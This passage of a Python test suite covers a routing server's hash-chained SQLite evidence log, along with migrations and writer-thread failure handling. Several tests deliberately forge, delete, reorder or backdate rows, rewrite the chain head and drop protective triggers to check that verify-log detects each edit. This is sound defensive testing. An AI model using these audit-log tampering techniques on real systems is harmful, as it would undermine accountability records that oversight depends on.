                self.assertTrue(store.write(append=("decisions", self.decision_values(number))))
                largest = max(largest, os.path.getsize(self.db + "-wal"))
        self.assertEqual(refused, [True])
        self.assertIn("a checkpoint failed: unable to open database file", said.getvalue())
        self.assertTrue(store._checkpointer.is_alive())
        page = store._writer.execute("PRAGMA page_size").fetchone()[0]
        self.assertLess(largest, 1000 * page)   # (some 2,500 pages without checkpoints)

    def test_out_of_threads_a_write_is_refused_503_and_works_once_threads_are_back(self):
        store = hall.Store(self.db)
        self.addCleanup(store.close)
        start = threading.Thread.start

        def out_of_threads(thread):
            if thread.name == "hall-writer":
                raise RuntimeError("can't start new thread")
            start(thread)
        with mock.patch.object(threading.Thread, "start", out_of_threads):
            with self.assertRaises(hall.Unavailable) as raised:
                store.write(lambda conn: "first", timeout=10)
        self.assertIn("can't start new thread", str(raised.exception))
        self.assertEqual(store.write(lambda conn: "second", timeout=10), "second")

    def test_a_write_after_close_fails_at_once_and_starts_no_thread(self):
        store = hall.Store(self.db)
        store.close()
        with self.assertRaises(hall.Unavailable) as raised:
            store.write(lambda conn: "late", timeout=10)
        self.assertIn("stopping", str(raised.exception))
        self.assertIsNone(store._writer_thread)


def files_held_open(path):
    """The descriptors of this process open on ``path`` or its -wal/-shm files."""
    if not os.path.isdir("/proc/self/fd"):
        raise unittest.SkipTest("needs /proc/self/fd")
    names = {os.path.realpath(path + suffix) for suffix in ("", "-wal", "-shm")}
    held = []
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.readlink("/proc/self/fd/" + fd) in names:
                held.append(int(fd))
    return held


class ReferenceDatabaseTest(TempDirCase):
    """A hall.db written by the reference server opens and is served without loss."""

    def setUp(self):
        TempDirCase.setUp(self)
        conn = sqlite3.connect(self.db)
        conn.executescript(REFERENCE_SCHEMA)
        self.record = worker_record("org.legacy.worker", "wrk.legacy", ["cap.legacy"])
        conn.execute("INSERT INTO enrollments VALUES (?,?,?,?,?,?,?,?)",
                     ("e-1", "org.legacy.worker", "wrk.legacy", '["cap.legacy"]', "low",
                      "2026-02-28T10:00:00.000000+00:00", self.record["artifact_hash"],
                      json.dumps(self.record)))
        today = hall.now_iso()
        conn.executemany("INSERT INTO decisions VALUES (?,?,?,?,?,?,?,?,?,?)", [
            ("d-old", "2026-02-28T12:00:00.000000+00:00", "cap.legacy", "acme", "dev", 0, None,
             "wrk.legacy", 2, "sha256:abc"),
            ("d-today", today, "cap.legacy", "acme", "prod", 1, "DENY_POLICY_GATE", None, None,
             None)])
        conn.execute("INSERT INTO alerts VALUES (?,?,?,?,?,?,?)",
                     ("a-1", "2026-02-28T12:00:00.000000+00:00", "warning",
                      "DENY_WORKER_TAMPERED", "Worker code hash mismatch", "org.legacy.worker",
                      "cap.legacy"))
        conn.commit()
        conn.close()

    def test_reference_database_is_served_without_loss(self):
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        server = h.serve(port=0)
        client = Client(server.url)
        try:
            status = client.request("GET", "/status")[2]
            self.assertEqual((status["workers_enrolled"], status["decisions_total"],
                              status["decisions_today"], status["denials_today"]), (1, 2, 1, 1))
            dispatches = client.request("GET", "/dispatches")[2]["dispatches"]
            self.assertEqual([d["decision_id"] for d in dispatches], ["d-today", "d-old"])
            self.assertEqual(dispatches[1], {
                "decision_id": "d-old", "decided_at": "2026-02-28T12:00:00.000000+00:00",
                "capability_id": "cap.legacy", "tenant_id": "acme", "env": "dev", "denied": 0,
                "deny_reason": None, "selected_worker": "wrk.legacy", "blast_score": 2,
                "artifact_hash": "sha256:abc"})
            workers = client.request("GET", "/workers")[2]["workers"]
            self.assertEqual(workers[0]["worker_id"], "org.legacy.worker")
            self.assertEqual(workers[0]["enrolled_at"], "2026-02-28T10:00:00.000000+00:00")
            alerts = client.request("GET", "/alerts")[2]["alerts"]
            self.assertEqual(alerts[0]["alert_id"], "a-1")
            _, token = h.create_token("t", ["route"])
            d = client.request("POST", "/api/route", route_body(capability_id="cap.legacy"),
                               token)[2]
            self.assertEqual(d["worker_id"], "org.legacy.worker")
            # the legacy worker re-enrolls as an update of the same row
            self.assertEqual(client.request("POST", "/enroll", self.record)[0], 200)
        finally:
            client.close()
            server.stop()
            h.close()
        conn = sqlite3.connect(self.db)
        try:
            columns = [r[1] for r in conn.execute("PRAGMA table_info(decisions)")]
            self.assertEqual(columns[:10], list(hall.DECISION_COLUMNS))
            self.assertEqual(conn.execute("SELECT count(*) FROM decisions").fetchone(), (3,))
        finally:
            conn.close()

    def test_a_database_from_a_newer_hall_is_refused(self):
        conn = sqlite3.connect(self.db)
        conn.execute("PRAGMA user_version=999")
        conn.commit()
        conn.close()
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=self.db))
        self.assertIn("newer hall", str(caught.exception))
        self.assertEqual(files_held_open(self.db), [])

    def test_a_failed_migration_reports_its_own_error_and_changes_nothing(self):
        hall.Hall(hall.Config(db_path=self.db, access_log=False)).close()
        version = len(hall.MIGRATIONS)

        def step(conn, store):                  # a step whose failure SQLite rolls back
            conn.execute("CREATE TABLE half_made (x)")
            conn.execute("CREATE TEMP TRIGGER refuse BEFORE INSERT ON half_made "
                         "BEGIN SELECT RAISE(ROLLBACK, 'the step failed'); END")
            conn.execute("INSERT INTO half_made VALUES (1)")
        with mock.patch.object(hall, "MIGRATIONS", hall.MIGRATIONS + [[step]]):
            with self.assertRaises(hall.ConfigError) as caught:
                hall.Hall(hall.Config(db_path=self.db, access_log=False))
        self.assertIn("the step failed", str(caught.exception))
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            self.assertEqual(conn.execute("PRAGMA user_version").fetchone(), (version,))
            self.assertEqual(conn.execute("SELECT count(*) FROM sqlite_master WHERE "
                                          "name = 'half_made'").fetchone(), (0,))
        self.assertEqual(files_held_open(self.db), [])

    def test_stored_settings_edited_into_nonsense_are_refused_with_one_line(self):
        hall.Hall(hall.Config(db_path=self.db, access_log=False)).close()
        for key, value in (("policy", "not json"), ("tenants", "[1]"),
                           ("tenants", '{"on": true}'), ("tenants", '{"tenants": [1]}'),
                           ("safe_mode", "[1]")):
            with contextlib.closing(sqlite3.connect(self.db)) as conn:
                conn.execute("DELETE FROM settings")
                conn.execute("INSERT INTO settings (key, value, updated_at) VALUES (?, ?, ?)",
                             (key, value, hall.now_iso()))
                conn.commit()
            with self.assertRaises(hall.ConfigError) as caught:
                hall.Hall(hall.Config(db_path=self.db, access_log=False))
            self.assertIn("the database was edited", str(caught.exception), (key, value))
            self.assertEqual(files_held_open(self.db), [])

    def test_a_token_file_that_cannot_be_written_is_not_left_behind(self):
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False,
                                  token_file=os.path.join(self.tmp.name, "hall.token")))
        try:
            with mock.patch.object(hall.Hall, "create_token",
                                   side_effect=OSError(errno.ENOSPC, "No space left on device")):
                with self.assertRaises(hall.ConfigError) as caught:
                    h.ensure_admin_token()
            self.assertIn("No space left on device", str(caught.exception))
            self.assertFalse(os.path.exists(h.config.token_path))
            path, secret = h.ensure_admin_token()       # the next start makes it
            with open(path) as handle:
                self.assertEqual(handle.read().strip(), secret)
        finally:
            h.close()

    def test_a_read_during_or_after_close_does_not_keep_the_file_open(self):
        store = hall.Store(self.db, keyring=hall.Keyring(self.db + ".keys"))
        with store.reading() as conn:
            store.close()
            self.assertEqual(conn.execute("SELECT count(*) FROM decisions").fetchone(), (2,))
        with store.reading() as conn:
            conn.execute("SELECT count(*) FROM decisions").fetchone()
        self.assertEqual(files_held_open(self.db), [])

    def test_a_stored_policy_that_does_not_compile_is_refused_and_lets_go_of_the_file(self):
        hall.Hall(hall.Config(db_path=self.db, access_log=False)).close()
        conn = sqlite3.connect(self.db)
        conn.execute("INSERT INTO settings (key, value, updated_at) VALUES ('policy', ?, ?)",
                     (json.dumps({"rules": "not a list"}), hall.now_iso()))
        conn.commit()
        conn.close()
        with self.assertRaises(hall.ConfigError) as caught:
            hall.Hall(hall.Config(db_path=self.db, access_log=False))
        self.assertIn("stored policy", str(caught.exception))
        self.assertEqual(files_held_open(self.db), [])

    def test_existing_rows_are_sealed_at_migration_and_reported_so(self):
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        try:
            h.ingest({"decision_id": "new"})
            report = h.verify_log()
            self.assertTrue(report["intact"], report["problems"])
            self.assertEqual(report["sealed"]["entries"], 3)        # 2 decisions, 1 alert
            self.assertEqual(report["entries"], 4)
        finally:
            h.close()
        # sealed oldest first across tables (a-1 and d-old share a time: by table name)
        conn = sqlite3.connect(self.db)
        try:
            order = conn.execute("SELECT decision_id, chain_seq FROM decisions ORDER BY chain_seq"
                                 ).fetchall()
            self.assertEqual(order, [("d-old", 2), ("d-today", 3), ("new", 4)])
            self.assertEqual(conn.execute("SELECT chain_seq FROM alerts").fetchall(), [(1,)])
            conn.execute("UPDATE decisions SET blast_score = 99 WHERE decision_id = 'd-old'")
            conn.commit()
        finally:
            conn.close()
        result = run_hall(["verify-log", "--db", self.db])
        self.assertEqual(result.returncode, 1)
        self.assertIn("decision d-old at place 2 was altered", result.stdout)
        self.assertIn("sealed at migration", result.stdout)
        self.assertIn("3 entries predate the chain", result.stdout)


def undo_schema_9(conn):
    """Take migration 9 out of a file (to make it as an older hall left it)."""
    conn.execute("DELETE FROM meta WHERE key = 'governance_version'")
    for (trigger,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' "
                                   "AND sql LIKE '%governance_version%'").fetchall():
        conn.execute("DROP TRIGGER %s" % trigger)


class SealMigrationTest(TempDirCase):
    """Schema 8: the head's MAC covers the seal from the migration on."""

    def schema_7_file(self, head=None):
        """A hall's file as a hall of schema 7 left it: its head's MAC in the
        form that does not cover the seal (``head``: over another head)."""
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        for i in range(3):
            h.ingest({"decision_id": "d-%d" % i})
        h.close()
        (key_id, secret), = hall.Keyring(self.db + ".keys").secrets().items()
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            seq, recorded = conn.execute("SELECT seq, head FROM chain").fetchone()
            conn.execute("UPDATE chain SET head_mac = ?",
                         (hall.head_mac(secret, key_id, seq, head or recorded),))
            undo_schema_9(conn)
            conn.execute("PRAGMA user_version = 7")
            conn.commit()

    def test_a_schema_7_file_verifies_and_is_signed_anew_over_its_seal(self):
        self.schema_7_file()
        result = run_hall(["verify-log", "--db", self.db])      # read only: not migrated
        self.assertEqual(result.returncode, 0, result.stdout)
        self.assertIn("intact", result.stdout)
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        try:
            report = h.verify_log()
            self.assertEqual((report["intact"], report["head_signed"]), (True, True))
        finally:
            h.close()
        (key_id, secret), = hall.Keyring(self.db + ".keys").secrets().items()
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            seq, head, sealed_seq, sealed_at, mac = conn.execute(
                "SELECT seq, head, sealed_seq, sealed_at, head_mac FROM chain").fetchone()
        self.assertEqual(mac, hall.head_mac(secret, key_id, seq, head, (sealed_seq, sealed_at)))

    def test_the_migration_does_not_sign_over_a_head_rewritten_before_it(self):
        self.schema_7_file(head="f" * 64)
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            before = conn.execute("SELECT head_mac FROM chain").fetchone()
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        try:
            with contextlib.closing(sqlite3.connect(self.db)) as conn:
                self.assertEqual(conn.execute("SELECT head_mac FROM chain").fetchone(), before)
            report = h.verify_log()
            self.assertEqual(report["head_signed"], False)
            self.assertEqual([p["problem"] for p in report["problems"]], ["head"])
        finally:
            h.close()


# -- evidence: the hash-chained log, receipts, explained decisions ----------------

class ChainCase(ServerCase):
    """A hall with decisions, alerts and audit entries written through the API."""

    def setUp(self):
        ServerCase.setUp(self)
        self.enroll(worker_record())
        for i in range(3):
            self.assertEqual(self.route(correlation_id="c%d" % i)[0], 200)
        self.route(capability_id="cap.unknown")             # a denial (and its row)
        for i in range(3):
            self.call("POST", "/decisions/ingest", {"decision_id": "ing-%d" % i,
                                                    "capability_id": "cap.x"})
        self.call("POST", "/api/safe-mode/enter", {"reason": "drill"}, token=self.admin)
        self.call("POST", "/api/safe-mode/exit", {}, token=self.admin)
        self.hall.raise_alert("warn", "TEST_ALERT", "an alert in the chain")

    def verify(self):
        status, _, report = self.call("GET", "/api/log/verify", token=self.admin)
        self.assertEqual(status, 200, report)
        check_schema(self, report, hall.openapi_document()["paths"]["/api/log/verify"]["get"][
            "responses"]["200"]["content"]["application/json"]["schema"])
        return report

    def seq_of(self, table, column, value):
        return self.db_rows("SELECT chain_seq FROM %s WHERE %s = ?" % (table, column),
                            (value,))[0][0]

    def edit(self, *statements):
        conn = sqlite3.connect(self.db)
        try:
            for statement in statements:
                conn.execute(*(statement if isinstance(statement, tuple) else (statement,)))
            conn.commit()
        finally:
            conn.close()


class ChainTest(ChainCase):
    """The SQLite file is edited behind the hall's back: verify-log must name
    each edit."""

    def test_an_untouched_log_is_intact_and_counts_every_entry(self):
        report = self.verify()
        counts = [self.db_rows("SELECT count(*) FROM %s" % t)[0][0]
                  for t in ("decisions", "alerts", "audit")]
        self.assertEqual(counts[0], 7)
        self.assertGreaterEqual(counts[1], 1)
        self.assertGreaterEqual(counts[2], 3 + 2)   # tokens of setUp, safe mode in and out
        rows = sum(counts)
        self.assertEqual((report["intact"], report["entries"], report["length"]),
                         (True, rows, rows))
        self.assertEqual(report["head"], self.db_rows("SELECT head FROM chain")[0][0])
        self.assertEqual(report["problems"], [])
        # places are unique and consecutive across the three tables
        seqs = sorted(r[0] for t in ("decisions", "alerts", "audit")
                      for r in self.db_rows("SELECT chain_seq FROM %s" % t))
        self.assertEqual(seqs, list(range(1, rows + 1)))
        self.assertEqual(self.call("GET", "/api/log/verify", token=self.reader)[0], 403)

    def test_an_altered_decision_is_named(self):
        victim = self.db_rows("SELECT decision_id FROM decisions WHERE denied = 1")[0][0]
        self.edit(("UPDATE decisions SET denied = 0, deny_reason = NULL WHERE decision_id = ?",
                   (victim,)))
        report = self.verify()
        self.assertFalse(report["intact"])
        self.assertEqual(len(report["problems"]), 1)
        self.assertEqual(report["first_problem"]["problem"], "altered")
        self.assertEqual(report["first_problem"]["seq"],
                         self.seq_of("decisions", "decision_id", victim))
        self.assertIn("decision %s" % victim, report["first_problem"]["message"])
        # the broken chain is raised as a critical alert too
        alerts = self.call("GET", "/alerts")[2]["alerts"]
        self.assertIn(("critical", "LOG_CHAIN_BROKEN"), [(a["level"], a["code"]) for a in alerts])

    def test_an_altered_alert_and_audit_entry_are_named(self):
        self.edit("UPDATE alerts SET message = 'nothing happened' WHERE code = 'TEST_ALERT'",
                  "DROP TRIGGER audit_no_update",
                  "UPDATE audit SET detail = '{\"reason\": \"nothing\"}' "
                  "WHERE action = 'safe_mode.enter'")
        report = self.verify()
        self.assertEqual([p["problem"] for p in report["problems"]], ["altered", "altered"])
        audit_id = self.db_rows("SELECT audit_id FROM audit WHERE action = 'safe_mode.enter'")[0][0]
        self.assertIn("audit entry %s" % audit_id, report["problems"][0]["message"])
        self.assertIn("alert ", report["problems"][1]["message"])

    def test_a_deleted_row_is_named(self):
        seq = self.seq_of("decisions", "decision_id", "ing-1")
        self.edit("DELETE FROM decisions WHERE decision_id = 'ing-1'")
        report = self.verify()
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("deleted", seq)])
        self.assertIn("decision ing-0", report["first_problem"]["message"])   # what it was between
        self.assertIn("decision ing-2", report["first_problem"]["message"])

    def test_deleting_the_newest_entries_is_seen_from_the_recorded_head(self):
        last = self.db_rows("SELECT seq FROM chain")[0][0]
        self.edit(("DELETE FROM alerts WHERE chain_seq = ?", (last,)))
        report = self.verify()
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("deleted", last)])
        self.assertIn("newest", report["first_problem"]["message"])

    def test_a_row_inserted_directly_is_named(self):
        self.edit("INSERT INTO decisions (decision_id, decided_at, capability_id, denied) "
                  "VALUES ('forged', '2026-01-01T00:00:00Z', 'cap.x', 0)")
        report = self.verify()
        self.assertEqual([p["problem"] for p in report["problems"]], ["inserted"])
        self.assertIn("decision forged", report["first_problem"]["message"])
        # a forged row that claims a place already taken is named too
        seq = self.seq_of("decisions", "decision_id", "ing-0")
        self.edit(("UPDATE decisions SET chain_seq = ?, chain_hash = 'x' WHERE decision_id = "
                   "'forged'", (seq,)))
        report = self.verify()
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("inserted", seq)])
        self.assertIn("decision forged", report["first_problem"]["message"])

    def test_reordered_rows_are_named(self):
        first, second = self.db_rows("SELECT decision_id, chain_seq, chain_hash FROM decisions "
                                     "WHERE decision_id IN ('ing-0', 'ing-2') ORDER BY chain_seq")
        # swap their places in the chain (and the hashes that go with them)
        self.edit(("UPDATE decisions SET chain_seq = ?, chain_hash = ? WHERE decision_id = ?",
                   (second[1], second[2], first[0])),
                  ("UPDATE decisions SET chain_seq = ?, chain_hash = ? WHERE decision_id = ?",
                   (first[1], first[2], second[0])))
        report = self.verify()
        self.assertFalse(report["intact"])
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("altered", first[1]), ("altered", second[1])])
        self.assertIn("decision ing-2", report["first_problem"]["message"])
        # swapping content between two rows (their times) is caught the same way
        self.edit(("UPDATE decisions SET chain_seq = ?, chain_hash = ? WHERE decision_id = ?",
                   (first[1], first[2], first[0])),
                  ("UPDATE decisions SET chain_seq = ?, chain_hash = ? WHERE decision_id = ?",
                   (second[1], second[2], second[0])))
        self.assertTrue(self.verify()["intact"])
        times = dict(self.db_rows("SELECT decision_id, decided_at FROM decisions WHERE "
                                  "decision_id IN ('ing-0', 'ing-2')"))
        self.edit(("UPDATE decisions SET decided_at = ? WHERE decision_id = 'ing-0'",
                   (times["ing-2"],)),
                  ("UPDATE decisions SET decided_at = ? WHERE decision_id = 'ing-2'",
                   (times["ing-0"],)))
        self.assertEqual([p["problem"] for p in self.verify()["problems"]],
                         ["altered", "altered"])

    def test_pruned_rows_are_vouched_for_and_other_deletions_still_show(self):
        for i in range(3):
            self.call("POST", "/decisions/ingest", {"decision_id": "old-%d" % i,
                                                    "decided_at": "2020-01-0%dT00:00:00Z" % (i + 1)})
        self.call("POST", "/decisions/ingest", {"decision_id": "late"})
        self.assertEqual(self.hall.prune(365)["removed"], 3)
        report = self.verify()
        self.assertTrue(report["intact"], report["problems"])
        self.assertEqual(report["pruned"], 3)
        self.assertEqual(report["length"] - report["entries"], 3)
        seq = self.seq_of("decisions", "decision_id", "late")
        self.edit("DELETE FROM decisions WHERE decision_id = 'late'")
        report = self.verify()
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("deleted", seq)])
        self.assertIn("entry %d is missing" % seq, report["first_problem"]["message"])
        self.assertEqual(report["pruned"], 3)

    def test_concurrent_writers_and_a_second_process_keep_one_chain(self):
        def worker(n):
            client = Client(self.server.url)
            try:
                for i in range(15):
                    client.request("POST", "/api/route", route_body(), self.router_token)
                    client.request("POST", "/decisions/ingest", {"decision_id": "t%d-%d" % (n, i)})
                    client.request("POST", "/decisions/ingest", {"decision_id": "t%d-%d" % (n, i)})
            finally:
                client.close()
        threads = [threading.Thread(target=worker, args=(n,)) for n in range(6)]
        for thread in threads:
            thread.start()
        result = run_hall(["route", "--db", self.db, "--capability", "cap.doc.summarize",
                           "--env", "dev", "--data-label", "PUBLIC", "--tenant", "org.acme"])
        for thread in threads:
            thread.join()
        self.assertEqual(result.returncode, 0, result.stderr)
        self.route()                            # the server continues the other process's chain
        report = self.verify()
        self.assertTrue(report["intact"], report["problems"])
        rows = sum(self.db_rows("SELECT count(*) FROM %s" % t)[0][0]
                   for t in ("decisions", "alerts", "audit"))
        self.assertEqual((report["entries"], report["length"]), (rows, rows))

    def test_verify_log_command_names_the_edit(self):
        self.stop()
        result = run_hall(["verify-log", "--db", self.db])
        self.assertEqual(result.returncode, 0, result.stderr)
        rows = sum(self.db_rows("SELECT count(*) FROM %s" % t)[0][0]
                   for t in ("decisions", "alerts", "audit"))
        self.assertRegex(result.stdout, r"^intact: %d entries, chain length %d, head [0-9a-f]{64}"
                         % (rows, rows))
        self.edit("UPDATE decisions SET tenant_id = 'org.other' WHERE decision_id = 'ing-0'")
        result = run_hall(["verify-log", "--db", self.db])
        self.assertEqual(result.returncode, 1)
        self.assertIn("NOT intact: 1 problem(s)", result.stdout)
        self.assertIn("altered: decision ing-0 at place", result.stdout)


class ChainDefenceTest(ChainCase):
    """Edits meant to get past the chain, and inputs meant to stop the writer."""

    def test_rewriting_the_head_to_hide_deleted_newest_entries_shows(self):
        self.assertIs(self.verify()["head_signed"], True)
        (last,) = self.db_rows("SELECT seq FROM chain")[0]
        previous = [r for t in ("decisions", "alerts", "audit") for r in self.db_rows(
            "SELECT chain_seq, chain_hash FROM %s WHERE chain_seq = ?" % t, (last - 1,))][0]
        self.edit(("DELETE FROM alerts WHERE chain_seq = ?", (last,)),
                  ("UPDATE chain SET seq = ?, head = ?", previous))
        report = self.verify()
        self.assertIs(report["head_signed"], False)
        self.assertEqual([p["problem"] for p in report["problems"]], ["head"])
        self.assertIn("not signed", report["first_problem"]["message"])

    def test_a_rewritten_head_stays_on_record_after_the_next_write(self):
        (last,) = self.db_rows("SELECT seq FROM chain")[0]
        previous = [r for t in ("decisions", "alerts", "audit") for r in self.db_rows(
            "SELECT chain_seq, chain_hash FROM %s WHERE chain_seq = ?" % t, (last - 1,))][0]
        self.edit(("DELETE FROM alerts WHERE chain_seq = ?", (last,)),
                  ("UPDATE chain SET seq = ?, head = ?", previous))
        self.assertEqual(self.call("POST", "/decisions/ingest", {"decision_id": "next"})[0], 201)
        report = self.verify()                  # the head is signed again, the rewrite noted
        self.assertIs(report["head_signed"], True)
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("head", last)])
        self.assertIn("head rewritten", report["first_problem"]["message"])

    def test_an_edited_seal_is_named_and_recorded_by_the_next_write(self):
        # Saying the hall's own entries predate the chain (were sealed at migration)
        # changes what the head's MAC covers: the time alone, then the count too.
        self.edit("UPDATE chain SET sealed_at = '2026-01-01T00:00:00+00:00'")
        result = run_hall(["verify-log", "--db", self.db])      # (reads only)
        self.assertEqual(result.returncode, 1, result.stdout)
        self.assertIn("or what it says was sealed at migration", result.stdout)
        (last,) = self.db_rows("SELECT seq FROM chain")[0]
        self.edit("UPDATE chain SET sealed_seq = 3")
        report = self.verify()
        self.assertIs(report["head_signed"], False)
        self.assertEqual(report["sealed"], {"entries": 3, "at": "2026-01-01T00:00:00+00:00"})
        self.assertEqual([p["problem"] for p in report["problems"]], ["head"])
        self.assertIn("or what it says was sealed at migration",
                      report["first_problem"]["message"])
        self.assertEqual(self.call("POST", "/decisions/ingest", {"decision_id": "next"})[0], 201)
        report = self.verify()                  # signed again, the edit on record
        self.assertIs(report["head_signed"], True)
        self.assertEqual([(p["problem"], p["seq"]) for p in report["problems"]],
                         [("head", last + 1)])      # (where the hall put it on record)
        self.assertIn("or what it says was sealed at migration changed",
                      report["first_problem"]["message"])

    def test_a_key_made_by_another_process_a_moment_ago_verifies(self):
        result = run_hall(["receipt-key", "rotate", "--db", self.db])
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertTrue(self.verify()["intact"])
        decision = self.route()[2]
        self.assertEqual(decision["receipt"]["key_id"], result.stdout.split()[-1])

    def test_a_transaction_sqlite_gives_up_loses_the_batch_not_the_chain(self):
        store = self.hall.store
        with store._write_lock:                 # the writer is idle: its connection is free
            pages = store._writer.execute("PRAGMA page_count").fetchone()[0]
            store._writer.execute("PRAGMA max_page_count = %d" % pages)
        try:
            status, _, body = self.call("POST", "/decisions/ingest",
                                        {"decision_id": "big", "capability_id": "x" * 300000})
            self.assertEqual((status, body["code"]), (503, "DB_UNAVAILABLE"))
        finally:
            with store._write_lock:
                store._writer.execute("PRAGMA max_page_count = 1073741823")
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE decision_id = 'big'"),
                         [(0,)])
        self.assertEqual(self.call("POST", "/decisions/ingest", {"decision_id": "after"})[0], 201)
        self.assertTrue(self.verify()["intact"], self.verify()["problems"])

    def test_prune_keeps_forged_and_backdated_rows_for_verify_log(self):
        # a forged old decision wearing a deleted alert's place and hash
        seq, link = self.db_rows("SELECT chain_seq, chain_hash FROM alerts "
                                 "WHERE code = 'TEST_ALERT'")[0]
        self.edit(("DELETE FROM alerts WHERE chain_seq = ?", (seq,)),
                  ("INSERT INTO decisions (decision_id, decided_at, capability_id, chain_seq, "
                   "chain_hash) VALUES ('forged', '2000-01-01T00:00:00Z', 'cap.x', ?, ?)",
                   (seq, link)),
                  "UPDATE decisions SET decided_at = '2000-01-01T00:00:00Z' "
                  "WHERE decision_id = 'ing-1'")
        result = self.hall.prune(1)
        self.assertEqual((result["removed"], result["kept"]), (0, 2))
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE decision_id IN "
                                      "('forged', 'ing-1')"), [(2,)])
        problems = self.verify()["problems"]
        self.assertEqual(sorted(p["problem"] for p in problems), ["altered", "altered"])
        self.assertIn("decision forged", " ".join(p["message"] for p in problems))
        self.assertIn("decision ing-1", " ".join(p["message"] for p in problems))
        alerts = self.call("GET", "/alerts")[2]["alerts"]
        self.assertIn("fail their chain check", " ".join(a["message"] for a in alerts))

    def test_odd_values_and_a_lost_head_are_reported_not_crashed_on(self):
        self.edit("UPDATE decisions SET capability_id = X'63' WHERE decision_id = 'ing-0'")
        report = self.verify()
        self.assertEqual([p["problem"] for p in report["problems"]], ["altered"])
        self.edit("DELETE FROM chain")
        report = self.verify()
        self.assertIn("head", [p["problem"] for p in report["problems"]])
        status, _, body = self.call("POST", "/decisions/ingest", {"decision_id": "after"})
        self.assertEqual((status, body["code"]), (503, "DB_UNAVAILABLE"))
        self.assertIn("evidence chain", body["error"])
        self.assertTrue(self.hall.store.writer_alive)

    def test_a_log_too_damaged_to_take_its_alert_is_still_reported(self):
        self.edit("DELETE FROM chain")          # (the LOG_CHAIN_BROKEN alert is refused)
        report = self.verify()
        self.assertFalse(report["intact"])
        self.assertIn("head", [p["problem"] for p in report["problems"]])

    def test_a_blob_for_the_heads_signature_is_recorded_and_writes_go_on(self):
        self.edit("UPDATE chain SET head_mac = X'41'")
        status, _, body = self.call("POST", "/decisions/ingest", {"decision_id": "after"})
        self.assertEqual(status, 201, body)
        report = self.verify()
        self.assertEqual([p["problem"] for p in report["problems"]], ["head"])
        detail = json.loads(self.db_rows("SELECT detail FROM audit WHERE action = ?",
                                         (hall.HEAD_REWRITTEN,))[0][0])
        self.assertEqual(detail["head_mac"], "b'A'")

    def test_values_the_hall_never_writes_are_answered_and_verified(self):
        self.edit(*["UPDATE %s SET chain_hash = NULL WHERE chain_seq = (SELECT seq FROM chain)"
                    % table for table in ("decisions", "alerts", "audit")] + [
            "UPDATE chain SET sealed_seq = 1, sealed_at = X'41'",
            "UPDATE decisions SET capability_id = X'41', blast_score = 2.5 "
            "WHERE decision_id = 'ing-1'",
            "UPDATE decisions SET blast_score = 9e999 WHERE decision_id = 'ing-2'",
            "UPDATE enrollments SET risk_tier = X'41'"])
        report = self.verify()                  # (its schema checked too)
        self.assertEqual((report["intact"], report["head"], report["sealed"]),
                         (False, None, {"entries": 1, "at": None}))
        result = run_hall(["verify-log", "--url", self.server.url, "--token", self.admin])
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertIn("NOT intact", result.stdout)
        status, _, page = self.call("GET", "/dispatches?limit=50")
        self.assertEqual(status, 200, page)
        shown = [(d["capability_id"], d["blast_score"]) for d in page["dispatches"]]
        self.assertIn(("b'A'", 2.5), shown)
        self.assertIn(("cap.x", "inf"), shown)  # (strict JSON has no Infinity)
        result = run_hall(["dispatches", "--url", self.server.url, "--token", self.admin])
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn('"inf"', result.stdout)
        self.hall.registry_changed()            # (else seen within a second)
        status, _, listing = self.call("GET", "/workers")
        self.assertEqual((status, listing["workers"][0]["risk_tier"]), (200, "b'A'"))

    def test_no_input_stops_the_writer(self):
        status, _, d = self.route(tenant_id=" ", blast_score=10 ** 20)
        self.assertEqual((status, d["deny_reason"], d["blast_score"]),
                         (200, "DENY_MISSING_TENANT_ID", None))
        self.route(tenant_id=" ", blast_score=500)
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE blast_score > 100"),
                         [(0,)])
        store = self.hall.store
        with self.assertRaises(ZeroDivisionError):
            store.write(lambda conn: 1 / 0)
        with self.assertRaises(Exception):
            store.write(append=("alerts", [object()] * len(hall.ALERT_COLUMNS), "0" * 64))
        with self.assertRaises(Exception):
            store.write(append=("alerts", ["\ud800"] * len(hall.ALERT_COLUMNS), "0" * 64))
        self.assertTrue(store.writer_alive)
        self.assertEqual(self.route()[0], 200)
        self.assertTrue(self.verify()["intact"])

    def test_rows_placed_outside_the_integers_are_reported_as_inserted(self):
        low = -1 << 63
        self.edit(*[("INSERT INTO decisions (rowid, decision_id, decided_at, capability_id, "
                     "chain_seq, chain_hash) VALUES (?, ?, '2026-01-01T00:00:00Z', 'cap.x', "
                     "?, 'h')", row) for row in ((None, "far-below", -1e19),
                                                 (low, "lowest", low), (None, "a-half", 5.5),
                                                 (None, "a-text", "7"))])
        problems = self.verify()["problems"]
        self.assertEqual(sorted(p["message"].split()[1] for p in problems
                                if p["problem"] == "inserted"),
                         ["a-half", "a-text", "far-below", "lowest"])

    def test_a_row_left_out_of_the_chain_index_is_reported(self):
        # The index is taken out of the schema, a row written, the index put
        # back: the row is in the table (and in /dispatches), not in the index.
        conn = sqlite3.connect(self.db)
        try:
            conn.execute("PRAGMA writable_schema = ON")
